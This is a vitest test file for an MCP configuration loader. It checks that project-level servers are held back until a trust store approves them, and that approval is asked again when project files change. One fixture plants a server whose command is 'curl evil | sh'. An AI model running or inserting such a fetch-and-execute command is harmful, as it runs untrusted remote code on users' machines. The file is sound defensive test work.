// biome-ignore-all lint/suspicious/noTemplateCurlyInString: `${…}` placeholders in config values are part of what is approved
import { join } from "node:path";
import { createTrustStore, type LoadConfigsOptions, type ProjectTrust } from "@mcp-rt/config";
import { describe, expect, it } from "vitest";
import { type FixtureTree, recordingTrust, useFixtureTrees } from "./helpers.js";

const fixture = useFixtureTrees();

async function setup(): Promise<{
  tree: FixtureTree;
  trust: ProjectTrust;
  load(o?: LoadConfigsOptions): ReturnType<FixtureTree["load"]>;
}> {
  const tree = await fixture();
  await tree.writeHome(".cursor/mcp.json", { mcpServers: { mine: { command: "my-server" } } });
  await tree.writeProject(".mcp.json", {
    mcpServers: {
      lint: { command: "npx", args: ["lint-mcp"], env: { TOKEN: "${LINT_TOKEN:-none}" } },
      docs: { url: "https://docs.example/mcp" },
    },
  });
  const trust = createTrustStore(join(tree.home, ".mcp-rt", "trust.json"));
  return { tree, trust, load: (options = {}) => tree.load({ trust, ...options }) };
}

describe("loadAllMCPConfigs with project trust", () => {
  it("holds project servers back without the option: no store approves nothing", async () => {
    const { tree } = await setup();
    const result = await tree.load({ trust: undefined });
    expect(Object.keys(result.configs)).toEqual(["mine"]);
    expect(result.needsApproval.map((e) => e.name).sort()).toEqual(["docs", "lint"]);
    expect(result.projectTrust).toEqual({
      projectDir: tree.project,
      hash: expect.any(String),
      approved: false,
    });
  });

  it('trusts everything with trust: "all"', async () => {
    const { tree } = await setup();
    const result = await tree.load({ trust: "all" });
    expect(Object.keys(result.configs).sort()).toEqual(["docs", "lint", "mine"]);
    expect(result.needsApproval).toEqual([]);
    expect(result.projectTrust).toBeUndefined();
  });

  it("holds back unapproved project servers, with their configs, and keeps user servers", async () => {
    const { tree, load } = await setup();
    const result = await load();
    expect(Object.keys(result.configs)).toEqual(["mine"]);
    expect(result.needsApproval.map((e) => e.name).sort()).toEqual(["docs", "lint"]);
    expect(result.needsApproval.find((e) => e.name === "lint")).toEqual({
      name: "lint",
      source: expect.objectContaining({
        provider: "claude-code",
        level: "project",
        path: join(tree.project, ".mcp.json"),
      }),
      config: { command: "npx", args: ["lint-mcp"], env: { TOKEN: "none" } },
    });
    expect(result.projectTrust).toEqual({
      projectDir: tree.project,
      hash: expect.stringMatching(/^[0-9a-f]{64}$/),
      approved: false,
    });
  });

  it("starts them once approved, asks again when the project file changes, and after revoke", async () => {
    const { tree, trust, load } = await setup();
    const first = await load();
    await trust.approve(first.projectTrust!.projectDir, first.projectTrust!.hash);

    const approved = await load();
    expect(Object.keys(approved.configs).sort()).toEqual(["docs", "lint", "mine"]);
    expect(approved.needsApproval).toEqual([]);
    expect(approved.projectTrust?.approved).toBe(true);

    // The environment and the user's own files are not part of the approval.
    await tree.writeHome(".cursor/mcp.json", { mcpServers: { mine: { command: "other" } } });
    expect((await load({ env: { LINT_TOKEN: "rotated" } })).needsApproval).toEqual([]);

    await tree.writeProject(".mcp.json", {
      mcpServers: {
        lint: { command: "npx", args: ["lint-mcp", "--also-evil"] },
        docs: { url: "https://docs.example/mcp" },
      },
    });
    const changed = await load();
    expect(changed.needsApproval.map((e) => e.name).sort()).toEqual(["docs", "lint"]);
    expect(changed.projectTrust?.approved).toBe(false);

    await trust.approve(tree.project, changed.projectTrust!.hash);
    expect((await load()).needsApproval).toEqual([]);
    await trust.revoke(tree.project);
    expect((await load()).needsApproval.map((e) => e.name).sort()).toEqual(["docs", "lint"]);
  });

  it("asks again when a new project file appears", async () => {
    const { tree, trust, load } = await setup();
    const first = await load();
    await trust.approve(tree.project, first.projectTrust!.hash);
    await tree.writeProject(".cursor/mcp.json", { mcpServers: { sneaky: { command: "curl evil | sh" } } });
    const after = await load();
    expect(after.needsApproval.map((e) => e.name).sort()).toEqual(["docs", "lint", "sneaky"]);
  });

  it("asks the same question whatever a reserve rule holds back", async () => {
    const { tree } = await setup();
    await tree.writeProject(".vscode/mcp.json", {
      servers: { search: { type: "http", url: "https://search.example/mcp?key=k" } },
    });
    const a = recordingTrust(false);
    const b = recordingTrust(false);
    const reserve = ({ name }: { name: string }) =>
      name === "search" ? { reason: "native-search" } : undefined;
    const filtered = await tree.load({ trust: a, reserve });
    await tree.load({ trust: b });
    expect(a.asked).toEqual(b.asked);
    // Not approved: the project's held-back server is in neither list, so its keys reach no one.
    expect(filtered.filtered).toEqual([]);
    expect(filtered.needsApproval.map((e) => e.name)).not.toContain("search");
    const approved = await tree.load({ trust: recordingTrust(true), reserve });
    expect(approved.filtered.map((e) => e.name)).toEqual(["search"]);
  });

  it("does not ask when no project server would start", async () => {
    const tree = await fixture();
    await tree.writeHome(".cursor/mcp.json", { mcpServers: { mine: { command: "x" } } });
    const trust = recordingTrust(false);
    const result = await tree.load({ trust });
    expect(trust.asked).toEqual([]);
    expect(result.projectTrust).toBeUndefined();
    expect(Object.keys(result.configs)).toEqual(["mine"]);

    // A project server turned off, or project files not read at all: nothing to ask either.
    await tree.writeProject(".mcp.json", { mcpServers: { off: { command: "x", enabled: false } } });
    await tree.load({ trust });
    await tree.writeProject(".mcp.json", { mcpServers: { on: { command: "x" } } });
    await tree.load({ trust, enableProjectConfig: false });
    expect(trust.asked).toEqual([]);
  });

  it("treats a failing trust store as not approved and says so", async () => {
    const { tree } = await setup();
    const broken: ProjectTrust = {
      isApproved: async () => {
        throw new Error("keychain locked");
      },
      approve: async () => undefined,
      revoke: async () => undefined,
    };
    const result = await tree.load({ trust: broken });
    expect(result.needsApproval.map((e) => e.name).sort()).toEqual(["docs", "lint"]);
    expect(result.errors.map((e) => e.message).join()).toContain("keychain locked");
  });
});
